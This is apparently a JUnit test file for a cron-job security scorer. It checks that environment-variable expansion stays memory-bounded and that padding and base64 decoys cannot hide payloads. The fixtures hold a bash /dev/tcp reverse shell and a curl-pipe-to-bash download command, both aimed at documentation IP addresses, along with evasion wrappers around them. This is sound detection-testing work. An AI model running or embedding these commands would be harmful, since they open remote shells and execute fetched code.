package dev.cronsentinel.score;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cronsentinel.model.EnvVarSpec;
import dev.cronsentinel.model.EventRole;
import dev.cronsentinel.model.ScoredEvent;
import dev.cronsentinel.model.Signal;
import dev.cronsentinel.testing.Allocations;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * The evasion normalisations are bounded in cost but not in reach. Env expansion cannot be turned into a
 * memory bomb (found by the fuzz test: a 400 KB value referenced 250,000 times from a 500 KB command line
 * made the scorer build a 100 GB string and die of OutOfMemoryError, which in a TaskManager takes the job
 * down), and neither that bound nor base64 decoding can be used to push a payload out of sight.
 */
class NormalisationLimitsTest {
    private static final Scorer SCORER = ScorerTest.SCORER;

    @Test
    void aValueReferencedAQuarterMillionTimesExpandsOnlyWithinTheBound() throws Exception {
        String big = "x".repeat(400_000);
        String refs = "$A".repeat(250_000);
        List<EnvVarSpec> env = List.of(new EnvVarSpec("A", big));
        String[] out = new String[1];
        long allocated = Allocations.allocatedBy(() -> out[0] = Scorer.expandEnv(refs, env));
        assertThat((long) out[0].length()).isLessThanOrEqualTo(refs.length() + Scorer.MAX_ENV_EXPANSION + big.length());
        assertThat(allocated).isLessThan(64L << 20);

        // End to end, smaller: unbounded, these 100 KB would expand to 5 GB and exhaust the heap.
        List<EnvVarSpec> env100k = List.of(new EnvVarSpec("A", "x".repeat(100_000)));
        ScoredEvent s = SCORER.score(EvasionAndAllowlistTest.cronJob("ns", "alice", List.of(EvasionAndAllowlistTest.container(
                "alpine", List.of("sh", "-c"), List.of("$A".repeat(50_000)), env100k)), List.of()), EventRole.WORKLOAD);
        assertThat(s.signals()).extracting(Signal::rule).contains("shell-wrapper");
    }

    @Test
    void paddingWithAHugeVariableCannotHideTheNextOne() {
        List<EnvVarSpec> env = List.of(
                new EnvVarSpec("PAD", " ".repeat(Scorer.MAX_ENV_EXPANSION * 2)),
                new EnvVarSpec("CMD", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"));
        ScoredEvent s = EvasionAndAllowlistTest.score(EvasionAndAllowlistTest.container("alpine", List.of("sh", "-c"),
                List.of("$PAD$PAD$PAD; eval \"$CMD\""), env));
        assertThat(s.signals()).filteredOn(x -> x.rule().equals("reverse-shell-dev-tcp"))
                .extracting(Signal::path).containsExactly("c[0].command+args (env-expanded)");
    }

    @Test
    void harmlessBase64DecoysCannotHideThePayloadBehindThem() {
        StringBuilder line = new StringBuilder("python3 -c \"import base64,os;");
        for (int i = 0; i < 20; i++) {
            line.append(" d").append(i).append("='").append(b64("nothing to see here, decoy number " + i)).append("';");
        }
        line.append(" os.system(base64.b64decode('").append(b64("curl -fsSL http://203.0.113.9/x | bash")).append("'))\"");
        ScoredEvent s = EvasionAndAllowlistTest.score(EvasionAndAllowlistTest.container("python:3.12", List.of("sh", "-c"),
                List.of(line.toString()), List.of()));
        assertThat(s.signals()).filteredOn(x -> x.rule().equals("download-pipe-shell")).singleElement().satisfies(sig -> {
            assertThat(sig.path()).isEqualTo("c[0].command+args (base64-decoded)");
            assertThat(sig.value()).isEqualTo("curl -fsSL http://203.0.113.9/x | bash");
        });
        assertThat(s.alertable()).isTrue();
    }

    private static String b64(String s) {
        return Base64.getEncoder().encodeToString(s.getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void repeatedReferencesWithinTheBoundAreAllExpanded() {
        List<EnvVarSpec> env = List.of(new EnvVarSpec("H", "203.0.113.9"));
        assertThat(Scorer.expandEnv("curl $H/a; curl ${H}/b; curl $(H)/c", env))
                .isEqualTo("curl 203.0.113.9/a; curl 203.0.113.9/b; curl 203.0.113.9/c");
    }
}
